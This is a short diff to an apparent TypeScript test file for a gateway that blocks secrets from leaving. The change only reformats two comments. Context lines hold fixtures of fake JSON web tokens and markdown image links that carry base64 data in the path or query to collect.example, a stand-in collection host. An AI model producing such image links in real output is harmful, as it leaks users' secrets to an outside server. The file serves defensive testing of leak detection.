@@ -40,7 +40,10 @@ const bundle: Bundle = {
 const base64 = (bytes: number): string => 'QUJDRGVm'.repeat(Math.ceil(bytes / 8)).slice(0, bytes);
 const lines = (text: string): string => text.replace(/.{64}/g, '$&\n');
 
-/** Texts of about 2 KB of which no byte may be sent: longer than a window of 1,024 bytes and its overlap of 256. */
+/**
+ * Texts of about 2 KB of which no byte may be sent: they are longer than a window of 1,024 bytes and its overlap of
+ * 256.
+ */
 const secrets = {
   'a JSON web token': `eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJ${base64(1_200)}.${base64(800)}`,
   'a JSON web token with a certificate in its header': `eyJhbGciOiJSUzI1NiIsIng1YyI6${base64(900)}.eyJ${base64(600)}.${base64(500)}`,
@@ -50,7 +53,7 @@ const secrets = {
   'an image with a long path': `![chart](https://collect.example/${base64(2_000)})`,
   'an image with a long query': `![chart](https://collect.example/p.png?d=${base64(2_000)})`,
 };
-/** Offsets around the end of the first and the second window, and far from both. */
+/** Offsets near the end of the first and the second window, and far from both. */
 const offsets = [0, 300, 760, 900, 1_015, 1_023, 1_300, 1_790, 2_040, 2_600];
 
 let world: GuardedGateway;
